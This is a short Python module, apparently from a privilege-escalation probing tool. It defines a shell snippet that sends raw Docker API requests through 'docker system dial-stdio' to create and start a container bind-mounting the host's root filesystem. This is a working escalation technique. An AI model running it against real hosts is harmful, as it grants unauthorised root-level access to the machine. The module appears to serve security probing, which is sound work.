"""The raw Docker API request both the docker and the sudo probes pipe into
``docker system dial-stdio``: create and start a container that mounts the host's ``/``."""

from __future__ import annotations

RAW_CREATE_AND_START = (
    'body=$(printf \'{"Image":"%s","Cmd":["sh","-c","%s"],"HostConfig":'
    '{"Binds":["/:/host"],"AutoRemove":true}}\' "$IMG" "$HW")\n'
    "name=stagingvm-p-$ID\n"
    "{ printf 'POST /containers/create?name=%s HTTP/1.1\\r\\nHost: docker\\r\\n"
    "Content-Type: application/json\\r\\nContent-Length: %d\\r\\n\\r\\n%s' "
    '"$name" "${#body}" "$body"\n'
    "  printf 'POST /containers/%s/start HTTP/1.1\\r\\nHost: docker\\r\\n"
    'Content-Length: 0\\r\\nConnection: close\\r\\n\\r\\n\' "$name"; sleep $((4*TF)); } '
)
"""Shell that writes two HTTP requests to stdout; the probe appends ``| <dial-stdio> ...``."""
